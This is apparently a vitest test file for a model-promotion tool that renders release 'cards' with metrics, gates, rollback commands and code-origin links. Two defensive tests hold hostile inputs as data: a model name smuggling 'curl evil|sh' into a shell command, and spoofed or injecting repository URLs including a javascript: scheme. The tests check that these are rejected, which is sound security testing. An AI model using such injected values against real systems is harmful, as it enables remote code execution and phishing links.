import { describe, expect, test } from "vitest";
import { readFixture } from "../../test/e2e/gates/fixture.ts";
import { type Changes, known, scenario, unknown } from "../../test/e2e/gates/scenario.ts";
import type { Code } from "../../schemas/generated/types.ts";
import { judgePromotion } from "../gates/index.ts";
import type { PromotionInput } from "../gates/input.ts";
import { type Card, type CardInput, buildCard } from "./card.ts";
import { renderCardMarkdown } from "./card-markdown.ts";
import { renderCardTerminal } from "./card-terminal.ts";
import { plainStyle } from "../text/style.ts";

function cardOf(input: PromotionInput, more: Partial<CardInput> = {}): Card {
  return buildCard({ ...input, judgement: judgePromotion(input), baseName: "main", ...more });
}

const cardAfter = async (changes: Changes): Promise<Card> => cardOf(await scenario(changes));

const tagged = { ...plainStyle, green: tag("green"), yellow: tag("yellow"), red: tag("red"), bold: tag("bold") };

function tag(name: string): (text: string) => string {
  return (text) => `<${name}>${text}</${name}>`;
}

test("the card in a terminal", async () => {
  const card = cardOf(await readFixture("soak"), { codeCommits: 12 });
  expect(renderCardTerminal(card, plainStyle)).toMatchInlineSnapshot(`
    "churn: 1.3.1 → 1.4.0 in production
    Waiting for time: soak ends 2026-11-24 09:30 UTC. Everything else passes.

    metric            now 1.3.1  proposed 1.4.0
    auc ↑                0.8921          0.9013  +0.0092 better
    latency_p95_ms ↓       11.8            12.5  +0.7 worse, within 50
    accuracy ↑            0.841           0.841  same

    gate                    why
    after staging  passed   in staging since 2026-11-23 09:30 UTC (#131)
    soak 24h       waiting  16 h of 24 h; passes 2026-11-24 09:30 UTC
    approvals 1    passed   @dana, on 4f8d11a
    require        passed   has signature, datasets, environment, code, metrics and parameters
    metrics        passed   auc 0.9013 ≥ 0.85, no regression; latency_p95_ms 12.5 ≤ 50
    signature      passed   input region added (string): it is optional, so callers may leave it out
    formats        passed   model.safetensors runs no code
    published      passed   release churn@v1.4.0, 1 file, digests equal

    data        customers 3 → 4
    code        9fceb02…4f8d11a 12 commits
    parameters  C 1 → 0.5

    Roll back later with modelyard rollback churn production (to 1.3.1).
    Judged 2026-11-24 01:30 UTC at 4f8d11a by the policy on main (a1b2c3d). Same as modelyard promote churn@1.4.0 production."
  `);
});

test("the card in Markdown", async () => {
  const card = cardOf(await readFixture("soak"), { codeCommits: 12 });
  expect(renderCardMarkdown(card)).toMatchInlineSnapshot(`
    "### churn: 1.3.1 → **1.4.0** in production
    **Waiting for time**: soak ends 2026-11-24 09:30 UTC. Everything else passes.

    | metric | now 1.3.1 | proposed 1.4.0 | |
    |---|--:|--:|---|
    | auc ↑ | 0.8921 | **0.9013** | +0.0092 better |
    | latency_p95_ms ↓ | 11.8 | **12.5** | +0.7 worse, within 50 |
    | accuracy ↑ | 0.841 | 0.841 | same |

    | gate | | why |
    |---|---|---|
    | after staging | passed | in staging since 2026-11-23 09:30 UTC (\`#131\`) |
    | soak 24h | **waiting** | 16 h of 24 h; passes 2026-11-24 09:30 UTC |
    | approvals 1 | passed | \`@dana\`, on \`4f8d11a\` |
    | require | passed | has signature, datasets, environment, code, metrics and parameters |
    | metrics | passed | auc 0.9013 ≥ 0.85, no regression; latency_p95_ms 12.5 ≤ 50 |
    | signature | passed | input region added (string): it is optional, so callers may leave it out |
    | formats | passed | model.safetensors runs no code |
    | published | passed | release \`churn@v1.4.0\`, 1 file, digests equal |

    **Data** customers 3 → 4 · **Code** [9fceb02…4f8d11a](https://github.com/acme/churn/compare/9fceb02d0ae598e95dc970b74767f19372d61af8...4f8d11a3c9e2b7d605814f9a3b2c1d0e9f8a7b6c) 12 commits · **Parameters** C 1 → 0.5
    Roll back later with \`modelyard rollback churn production\` (to 1.3.1).
    <sub>Judged 2026-11-24 01:30 UTC at 4f8d11a by the policy on main (a1b2c3d). Same as \`modelyard promote churn@1.4.0 production\`.</sub>
    "
  `);
});

test("colour says what is good, what to look at and what stops", async () => {
  const bounds = { auc: { min: 0.95 }, latency_p95_ms: { max: 50 } };
  const card = await cardAfter({
    gates: { approvals: 2, metrics: bounds },
    current: { metrics: { auc: 0.9, latency_p95_ms: 11 } },
    proposed: { metrics: { auc: 0.91, latency_p95_ms: 12 } },
  });
  const text = renderCardTerminal(card, tagged);
  for (const words of [
    "<red>Refused</red>",
    "<red>+0.01 better, below 0.95</red>",
    "<yellow>+1 worse, within 50</yellow>",
  ]) {
    expect(text).toContain(words);
  }
  for (const words of [
    "<yellow>waiting</yellow>",
    "<red>failed</red>",
    "<green>passed</green>",
    "<bold>1.4.0</bold>",
  ]) {
    expect(text).toContain(words);
  }
});

const status = async (changes: Changes): Promise<string> => Object.values((await cardAfter(changes)).status).join(": ");

describe("the first sentence says where it stands", () => {
  const soak = { after: "staging", soak: "24h" };
  const history = unknown("this is a shallow clone");
  test.each<[Changes, string]>([
    [{}, "Ready: every gate passes."],
    [{ gates: soak }, "Waiting for time: soak ends 2026-11-24 09:30 UTC. Everything else passes."],
    [
      { gates: { ...soak, freeze: [{ from: "2026-11-24T09:00:00Z", to: "2026-11-26T00:00:00Z", reason: "sale" }] } },
      "Waiting for time: soak ends 2026-11-24 09:30 UTC; then a freeze holds until 2026-11-26 00:00 UTC. Everything else passes.",
    ],
    [
      { gates: { ...soak, approvals: 2 } },
      "Waiting for time and approval: soak ends 2026-11-24 09:30 UTC; approvals: 1 of 2 by @acme/growth-ml or @alice. Everything else passes.",
    ],
    [
      { input: { store: known({ state: "draft", files: [] }) } },
      "Waiting for publishing: published: saved in part: model.safetensors is missing in the store. Everything else passes.",
    ],
    [
      { gates: soak, input: { history } },
      "Not known: soak: how long 1.4.0 has been in staging is not known: this is a shallow clone. Everything else passes.",
    ],
    [
      { gates: { after: "shadow", require: ["code"], approvals: 3 } },
      "Refused: the gates after shadow and require; the table says why. Not passed either: approvals 3.",
    ],
  ])("%#", async (changes, words) => {
    expect(await status(changes)).toBe(words);
  });
});

describe("the way back", () => {
  test("is a command where the stage held something", async () => {
    expect((await cardAfter({})).undo).toEqual({
      by: "command",
      command: "modelyard rollback churn production",
      to: "1.3.1",
    });
  });
  test("is the revert where it was empty", async () => {
    const card = await cardAfter({ current: null });
    expect(card.undo).toEqual({ by: "revert", reason: "production was empty before" });
    expect(renderCardMarkdown(card)).toContain("### churn: **1.4.0** in production\n");
  });
  test("is not known where nobody could read the stage", async () => {
    expect((await cardAfter({ promotion: { stage: "canary" } })).undo).toBeUndefined();
  });
});

test("a command is only given where a shell does with it what it says", async () => {
  const input = await scenario({ promotion: { model: "churn;curl evil|sh" } });
  const card = cardOf(input);
  expect(card.command).toBeUndefined();
  expect(card.gates).toMatchObject([{ label: "readable", verdict: "failed" }]);
  expect(JSON.stringify(card.gates)).not.toContain("modelyard");
});

const code = (repository: string | undefined, commit: string): { code: Code } => ({
  code: { commit: commit.repeat(40), ...(repository === undefined ? {} : { repository }) },
});

const origins = async (changes: Changes): Promise<string[]> =>
  (await cardAfter(changes)).origins.map(({ title, text, more }) => [title, text, more].filter(Boolean).join(" "));

describe("where the code came from", () => {
  test.each([
    ["https://github.com/acme/churn", "https://github.com/acme/churn"],
    ["https://github.com/acme/churn.git", "https://github.com/acme/churn"],
    ["https://github.com/acme/churn/", "https://github.com/acme/churn"],
    ["http://github.com/acme/churn", undefined],
    ["https://github.com.evil.example/acme/churn", undefined],
    ["https://evil@github.com/acme/churn", undefined],
    ["https://github.com/acme/churn)[x](http://evil.example", undefined],
    ["https://github.com/acme/..", undefined],
    ["git@github.com:acme/churn", undefined],
    ["javascript:alert(1)//github.com/acme/churn", undefined],
    [undefined, undefined],
  ])("%s is linked to %s", async (repository, page) => {
    const card = await cardAfter({ current: code(repository, "1"), proposed: code(repository, "2") });
    const link = page === undefined ? undefined : `${page}/compare/${"1".repeat(40)}...${"2".repeat(40)}`;
    expect(card.origins.find(({ title }) => title === "Code")).toMatchObject({ text: "1111111…2222222" });
    expect(card.origins.find(({ title }) => title === "Code")?.link).toBe(link);
  });

  test("a change is named, a first version too, and what is not stated is said", async () => {
    const proposed = {
      datasets: [{ name: "customers", version: "4", role: "training" }],
      code: { commit: "2".repeat(40), dirty: true },
    };
    expect(await origins({ current: null, proposed })).toEqual([
      "Data customers 4",
      "Code 2222222 with uncommitted changes",
      "Parameters not stated",
    ]);
    const current = { datasets: [{ name: "events", version: "1", role: "training" }], parameters: { C: 1 } };
    expect(await origins({ current, proposed: { ...proposed, parameters: { C: 1 } } })).toEqual([
      "Data customers 4 (new), events 1 (gone)",
      "Code 2222222 with uncommitted changes",
      "Parameters same",
    ]);
    expect(await origins({})).toEqual([]);
  });
});

test("of many metrics those that stop or worry come first, and the rest is counted", async () => {
  const names = Array.from({ length: 500 }, (_, index) => `m${String(index).padStart(3, "0")}`);
  const of = (change: (index: number) => number) =>
    Object.fromEntries(names.map((name, index) => [name, change(index)]));
  const card = await cardAfter({
    gates: { metrics: { m499: { min: 2 }, gone: { min: 0 } } },
    model: { metrics: Object.fromEntries(names.map((name) => [name, { goal: "maximize" as const }])) },
    current: { metrics: of(() => 1) },
    proposed: { metrics: of((index) => (index === 300 ? 0.5 : index >= 480 ? 1.5 : 1)) },
  });
  expect(card.metrics.rows).toHaveLength(20);
  expect(card.metrics.rows.slice(0, 4).map(({ name, words }) => `${name}: ${words}`)).toEqual([
    "m499 ↑: +0.5 better, below 2",
    "gone: missing, and a gate asks for it",
    "m300 ↑: -0.5 worse",
    "m480 ↑: +0.5 better",
  ]);
  expect(card.metrics.more).toBe("and 481 more: 479 same, 2 better");
});
